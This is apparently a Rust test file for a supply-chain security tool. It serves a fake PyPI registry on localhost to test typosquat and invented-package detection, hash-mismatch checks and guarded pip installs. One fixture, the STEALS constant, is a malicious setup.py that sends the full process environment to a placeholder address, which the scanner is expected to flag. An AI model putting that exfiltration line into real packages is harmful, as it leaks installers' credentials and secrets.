//! Packages as a user meets them: the real binary, a registry on 127.0.0.1, programs of our own.

#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::expect_used,
    reason = "a failure here is a failed test"
)]

mod common;

use std::{
    fs,
    io::{BufRead as _, BufReader, Write as _},
    net::TcpListener,
    os::unix::fs::PermissionsExt as _,
    thread,
};

use common::{Sandbox, text};
use serde_json::json;
use sha2::Digest as _;

const HONEST: &str = "from setuptools import setup\n\nsetup(name='thing', version='1.0')\n";
/// Inert: the address leads nowhere, and nothing runs it.
const STEALS: &str = "import json, os, urllib.request\n\
    urllib.request.urlopen('http://192.0.2.9/', data=json.dumps(dict(os.environ)).encode())\n\
    from setuptools import setup\n\nsetup(name='thing', version='1.0')\n";

/// A source archive of a release `1.0`.
fn sdist(name: &str, setup: &str) -> Vec<u8> {
    let metadata = format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n");
    let mut archive = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::fast(),
    ));
    for (file, content) in [("PKG-INFO", metadata.as_str()), ("setup.py", setup)] {
        let mut header = tar::Header::new_gnu();
        header.set_size(content.len() as u64);
        header.set_mode(0o644);
        let path = format!("{name}-1.0/{file}");
        archive
            .append_data(&mut header, path, content.as_bytes())
            .unwrap();
    }
    archive.into_inner().unwrap().finish().unwrap()
}

/// What the registry at an address says and serves at a path. It is one of domains too, and knows none.
fn answer(address: &str, path: &str) -> Option<Vec<u8>> {
    if path == "/dns.json" {
        let list = json!({"services": [[["org"], [format!("{address}/domains/")]]]});
        return Some(list.to_string().into_bytes());
    }
    let (name, is_file) = match path.strip_prefix("/files/") {
        Some(file) => (file.strip_suffix("-1.0.tar.gz")?, true),
        None => (path.strip_prefix("/pypi/")?.split('/').next()?, false),
    };
    let (setup, needs) = match name {
        "thing" => (HONEST, json!(["inventedd-helper"])),
        "plainthing" | "swappedthing" => (HONEST, json!(null)),
        "stealingthing" => (STEALS, json!(null)),
        // Its file is not there.
        "lostthing" if !is_file => (HONEST, json!(null)),
        _ => return None,
    };
    let archive = sdist(name, setup);
    if is_file {
        return Some(archive);
    }
    let told = match name {
        "swappedthing" => "0".repeat(64),
        _ => sha2::Sha256::digest(&archive)
            .iter()
            .fold(String::new(), |hex, byte| format!("{hex}{byte:02x}")),
    };
    let file = json!({
        "filename": format!("{name}-1.0.tar.gz"), "packagetype": "sdist", "size": archive.len(),
        "upload_time_iso_8601": "2020-01-01T00:00:00.000000Z", "yanked": false,
        "url": format!("../../files/{name}-1.0.tar.gz"),
        "digests": {"sha256": told},
    });
    let body = json!({
        "info": {
            "name": name, "version": "1.0", "summary": "A thing.",
            "author_email": "ana@example.org", "home_page": "https://example.org",
            "project_urls": {"Source": format!("https://github.com/example/{name}")},
            "requires_dist": needs,
        },
        "last_serial": 1,
        "releases": {"0.9": [file.clone()], "1.0": [file.clone()]},
        "urls": [file],
    });
    Some(body.to_string().into_bytes())
}

/// A PyPI with a few packages of one release long ago, and their files. It ends with the test.
fn registry() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}", listener.local_addr().unwrap());
    let own = address.clone();
    thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            let mut lines = BufReader::new(stream.try_clone().unwrap()).lines();
            let request = lines.next().unwrap().unwrap();
            while lines
                .next()
                .is_some_and(|line| line.is_ok_and(|line| !line.is_empty()))
            {}
            let path = request.split(' ').nth(1).unwrap();
            let (status, body) = match answer(&own, path) {
                Some(body) => ("200 OK", body),
                None => ("404 Not Found", b"{}".to_vec()),
            };
            let _ = write!(
                stream,
                "HTTP/1.1 {status}\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\
                 Connection: close\r\n\r\n",
                body.len()
            );
            let _ = stream.write_all(&body);
        }
    });
    address
}

fn check<'a>(more: &[&'a str]) -> Vec<&'a str> {
    [&["package", "check", "-f", "json"][..], more].concat()
}

#[test]
fn names_are_checked_without_asking_anybody() {
    let sandbox = Sandbox::new();
    let (code, report) = sandbox.json(&check(&["--offline", "requests", "Django"]));
    assert_eq!(code, 0, "{report:#}");
    let (code, report) = sandbox.json(&check(&["--offline", "reqeusts"]));
    assert_eq!(code, 1);
    let one = &report["packages"][0];
    assert_eq!(one["recommendation"], "block", "{one:#}");
    assert_eq!(one["signals"][0]["id"], "near-popular-name");
    // Nothing speaks against it, and nobody could be asked whether it exists.
    assert_eq!(
        sandbox
            .json(&check(&["--offline", "zweisamkeit-werkbank"]))
            .0,
        4
    );
}

#[test]
fn a_stolen_release_does_not_condemn_a_widely_used_package() {
    let sandbox = Sandbox::new();
    for (name, recommendation) in [
        ("litellm", "review"),
        ("litellm==1.82.7", "block"),
        ("litellm==1.50.0", "allow"),
    ] {
        let (_, report) = sandbox.json(&check(&["--offline", name]));
        let one = &report["packages"][0];
        assert_eq!(one["recommendation"], recommendation, "{one:#}");
    }
}

#[test]
fn the_registry_says_what_exists_and_a_failure_says_nothing() {
    let sandbox = Sandbox::new();
    let url = format!("packages.pypi_url={}", registry());
    let (code, report) = sandbox.json(&check(&["--set", &url, "thing", "inventedd-helper"]));
    assert_eq!(code, 1, "{report:#}");
    let packages = report["packages"].as_array().unwrap();
    assert_eq!(packages[0]["registry"]["releases"], 2, "{report:#}");
    assert_eq!(packages[1]["recommendation"], "block");
    assert_eq!(packages[1]["signals"][0]["id"], "does-not-exist");
    // Nothing listens on this port: an answer of nobody is no answer.
    let closed = TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap();
    let nobody = format!("packages.pypi_url=http://{closed}");
    let (code, report) = sandbox.json(&check(&["--set", &nobody, "some-other-thing"]));
    assert_eq!(code, 4, "{report:#}");
}

#[test]
fn the_files_of_a_release_are_looked_at() {
    let sandbox = Sandbox::new();
    let url = format!("packages.pypi_url={}", registry());
    let all = ["plainthing", "stealingthing", "swappedthing"];
    let asked = [&["--set", &url][..], &all].concat();
    let (code, report) = sandbox.json(&check(&asked));
    assert_eq!(code, 1, "{report:#}");
    let [plain, stealing, swapped] = [0, 1, 2].map(|at| &report["packages"][at]);
    let gaps = |one: &serde_json::Value| {
        let gaps = one["unevaluated"].as_array().unwrap().iter();
        gaps.filter(|gap| gap["signal"] == "file-behaviour").count()
    };
    assert_eq!(
        (&plain["recommendation"], gaps(plain)),
        (&json!("allow"), 0),
        "{plain:#}"
    );
    assert_eq!(stealing["recommendation"], "block", "{stealing:#}");
    assert_eq!(
        stealing["signals"][0]["location"]["path"],
        "stealingthing-1.0.tar.gz!/stealingthing-1.0/setup.py"
    );
    let differs = swapped["signals"].as_array().unwrap().iter();
    let differs: Vec<_> = differs
        .filter(|one| one["id"] == "manifest-mismatch")
        .collect();
    assert!(
        differs[0]["evidence"].as_str().unwrap().contains("SHA-256"),
        "{swapped:#}"
    );
    // A file that cannot be had is not one that does nothing.
    let lost = ["--set", &url, "lostthing"];
    assert_eq!(sandbox.json(&check(&lost)).0, 4);
    // Where files are not to be looked at, none is fetched.
    let (code, report) = sandbox.json(&check(&[&asked[..], &["--inspect", "never"]].concat()));
    assert_eq!(code, 0, "{report:#}");
}

#[test]
fn a_maintainer_whose_domain_is_free_is_told() {
    let sandbox = Sandbox::new();
    let address = registry();
    let url = format!("packages.pypi_url={address}");
    let rdap = format!("packages.rdap_url={address}/dns.json");
    let asked = ["--set", &url, "--set", &rdap, "plainthing"];
    let (code, report) = sandbox.json(&check(&asked));
    assert_eq!(code, 1, "{report:#}");
    assert_eq!(
        report["packages"][0]["signals"][0]["id"],
        "expired-maintainer-domain"
    );
    // A mirror's users ask nobody else, and it can be switched off.
    let silent = [&asked[..], &["--set", "packages.domains=false"]].concat();
    assert_eq!(sandbox.json(&check(&silent)).0, 0);
    assert_eq!(sandbox.json(&check(&["--set", &url, "plainthing"])).0, 0);
}

#[test]
fn a_guarded_command_looks_into_what_it_brings() {
    let sandbox = with_pip();
    let pip = sandbox.project().parent().unwrap().join("bin/pip");
    let url = format!("packages.pypi_url={}", registry());
    let guard = [
        "guard",
        "--set",
        &url,
        "--",
        pip.to_str().unwrap(),
        "install",
    ];
    let output = sandbox.run(&[&guard[..], &["stealingthing"]].concat());
    assert_eq!(output.status.code(), Some(1), "{}", text(&output.stderr));
    assert!(
        text(&output.stderr).contains("setup.py"),
        "{}",
        text(&output.stderr)
    );
    assert!(!sandbox.project().join("ran.txt").exists());
    let output = sandbox.run(&[&guard[..], &["lostthing"]].concat());
    assert_eq!(output.status.code(), Some(4), "{}", text(&output.stderr));
    assert!(!sandbox.project().join("ran.txt").exists());
    let output = sandbox.run(&[&guard[..], &["plainthing"]].concat());
    assert_eq!(output.status.code(), Some(7), "{}", text(&output.stderr));
}

#[test]
fn an_index_of_all_names_finds_what_is_invented() {
    let sandbox = Sandbox::new();
    sandbox.write("names.txt", "requests\nflask\nnumpy\n");
    let names = sandbox.project().parent().unwrap().join("names.txt");
    let names = names.to_str().unwrap();
    sandbox.write("project/requirements.txt", "flask==3.0.0\n");
    sandbox.write(
        "project/app.py",
        "import flask\nimport flask_super_helper\n",
    );
    let (_, report) = sandbox.json(&["scan", "--only", "packages", "--no-store", "-f", "json"]);
    let found = |report: &serde_json::Value| -> Vec<(String, String)> {
        let all = report["findings"].as_array().unwrap().iter();
        all.map(|one| {
            let word = |key: &str| one[key].as_str().unwrap().to_owned();
            (word("rule"), word("severity"))
        })
        .collect()
    };
    assert_eq!(
        found(&report),
        [("undeclared-import".to_owned(), "low".to_owned())]
    );
    let output = sandbox.run(&["db", "names", "--names-source", names]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    let (_, report) = sandbox.json(&["scan", "--only", "packages", "--no-store", "-f", "json"]);
    assert_eq!(
        found(&report),
        [("invented-import".to_owned(), "high".to_owned())]
    );
    let (code, report) = sandbox.json(&check(&["--offline", "numpy", "flask-super-helper"]));
    assert_eq!(code, 1);
    assert_eq!(report["packages"][0]["recommendation"], "allow");
    assert_eq!(report["packages"][1]["signals"][0]["id"], "does-not-exist");
    let wrong = sandbox.run(&["db", "names", "--names-source", "absent.txt"]);
    assert!(
        !wrong.status.success(),
        "a source that is not there is an error"
    );
}

#[test]
fn a_scan_tells_of_names_that_are_near_and_a_decision_lets_them_in() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "project/requirements.txt",
        "reqeusts==1.0\nrequests==2.32.4\n",
    );
    let scan = ["scan", "--only", "packages", "--no-store", "-f", "json"];
    let (code, report) = sandbox.json(&scan);
    assert_eq!(code, 1, "{report:#}");
    let one = &report["findings"][0];
    assert_eq!(one["kind"], "suspicious_dependency");
    assert_eq!(one["rule"], "near-popular-name");
    assert_eq!(one["check"]["recommendation"], "block");
    sandbox.write(
        "project/runward.toml",
        &format!(
            "[[packages.allow]]\nname = \"reqeusts\"\necosystem = \"pypi\"\nreason = \"our fork\"\n\
             author = \"ana\"\nexpires = \"{}\"\n",
            common::in_days(30)
        ),
    );
    let (code, report) = sandbox.json(&scan);
    assert_eq!(code, 0, "{report:#}");
}

/// A `pip` that notes what it was called with.
fn with_pip() -> Sandbox {
    let sandbox = Sandbox::new();
    sandbox.write("bin/pip", "#!/bin/sh\necho \"$@\" > ran.txt\nexit 7\n");
    let program = sandbox.project().parent().unwrap().join("bin/pip");
    fs::set_permissions(program, fs::Permissions::from_mode(0o755)).unwrap();
    sandbox
}

#[test]
fn a_guarded_command_runs_only_where_policy_allows() {
    let sandbox = with_pip();
    let pip = sandbox.project().parent().unwrap().join("bin/pip");
    let pip = pip.to_str().unwrap();
    let ran = sandbox.project().join("ran.txt");
    let output = sandbox.run(&["guard", "--offline", "--", pip, "install", "reqeusts"]);
    assert_eq!(output.status.code(), Some(1), "{}", text(&output.stderr));
    assert!(!ran.exists() && text(&output.stderr).contains("requests"));
    // What it does not understand does not run either.
    let output = sandbox.run(&[
        "guard",
        "--offline",
        "--",
        pip,
        "install",
        "git+https://example.org/x",
    ]);
    assert_eq!(output.status.code(), Some(4), "{}", text(&output.stderr));
    assert!(!ran.exists());
    let output = sandbox.run(&[
        "guard",
        "--offline",
        "--",
        pip,
        "install",
        "requests>=2",
        "-q",
    ]);
    assert_eq!(
        output.status.code(),
        Some(7),
        "the program's own code: {}",
        text(&output.stderr)
    );
    assert_eq!(
        fs::read_to_string(&ran).unwrap(),
        "install requests>=2 -q\n"
    );
}

#[test]
fn what_is_on_this_machine_is_looked_at_too() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "project/pyproject.toml",
        "[project]\nname = \"own\"\nversion = \"1\"\ndependencies = [\"reqeusts\", \"flask\"]\n",
    );
    fs::write(
        sandbox.project().join("bad-1.0.tar.gz"),
        sdist("bad", STEALS),
    )
    .unwrap();
    let guard = |what: &[&str]| {
        let command = [
            "guard",
            "--offline",
            "--dry-run",
            "-f",
            "json",
            "--",
            "pip",
            "install",
        ];
        let (code, report) = sandbox.json(&[&command[..], what].concat());
        let names: Vec<String> = report["packages"]
            .as_array()
            .unwrap()
            .iter()
            .map(|one| one["name"].as_str().unwrap().to_owned())
            .collect();
        (code, names, report["uncertain"].as_array().unwrap().len())
    };
    for own in [&["-e", "."][..], &[".[dev]"]] {
        let (code, names, unknown) = guard(own);
        assert_eq!((code, unknown), (1, 0));
        assert_eq!(names, ["reqeusts", "flask"]);
    }
    let (code, names, unknown) = guard(&["./bad-1.0.tar.gz"]);
    // Its metadata is too old to say what it needs.
    assert_eq!((code, names, unknown), (1, vec!["bad".to_owned()], 1));
    assert_eq!(guard(&["./absent.whl"]).0, 4);
}

#[test]
fn decisions_are_recorded_where_there_is_a_record() {
    let sandbox = with_pip();
    let pip = sandbox.project().parent().unwrap().join("bin/pip");
    let guard = |name: &str| {
        let pip = pip.to_str().unwrap();
        sandbox.run(&["guard", "--offline", "--", pip, "install", name])
    };
    guard("reqeusts");
    assert!(!sandbox.project().join(".runward").exists());
    sandbox.write("project/requirements.txt", "requests==2.32.4\n");
    sandbox.run(&["scan", "--only", "packages"]);
    guard("reqeusts");
    guard("requests");
    let (_, log) = sandbox.json(&[
        "audit",
        "log",
        "--type",
        "install_guarded",
        "--format",
        "json",
    ]);
    let told: Vec<_> = log["events"]
        .as_array()
        .unwrap_or_else(|| panic!("{log:#}"))
        .iter()
        .map(|event| {
            (
                event["event"]["outcome"].clone(),
                event["event"]["details"]["packages"][0]["name"].clone(),
            )
        })
        .collect();
    // The newest first.
    assert_eq!(
        told,
        [
            (json!("success"), json!(null)),
            (json!("failure"), json!("reqeusts")),
        ]
    );
}

#[test]
fn what_a_package_needs_is_checked_too() {
    let sandbox = Sandbox::new();
    let url = format!("packages.pypi_url={}", registry());
    let (code, report) = sandbox.json(&[
        "guard",
        "--dry-run",
        "-f",
        "json",
        "--set",
        &url,
        "--",
        "pip",
        "install",
        "thing==1.0",
    ]);
    assert_eq!(code, 1, "{report:#}");
    let names: Vec<_> = report["packages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|one| one["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["thing", "inventedd-helper"]);
    assert_eq!(report["recommendation"], "block");
}

#[test]
fn wrong_settings_are_told() {
    let sandbox = Sandbox::new();
    for setting in [
        "packages.weights=[\"x\"]",
        "packages.weights=[\"nothing=1\"]",
        "packages.suspicious_names=[\"(\"]",
        "packages.review_score=11",
        "packages.pypi_url=ftp://x",
    ] {
        let output = sandbox.run(&[
            "package",
            "check",
            "--offline",
            "--set",
            setting,
            "requests",
        ]);
        assert_eq!(
            output.status.code(),
            Some(2),
            "{setting}: {}",
            text(&output.stderr)
        );
        assert!(text(&output.stderr).contains("packages."), "{setting}");
    }
    let output = sandbox.run(&["package", "check", "--ecosystem", "maven", "x"]);
    assert_eq!(output.status.code(), Some(2));
}
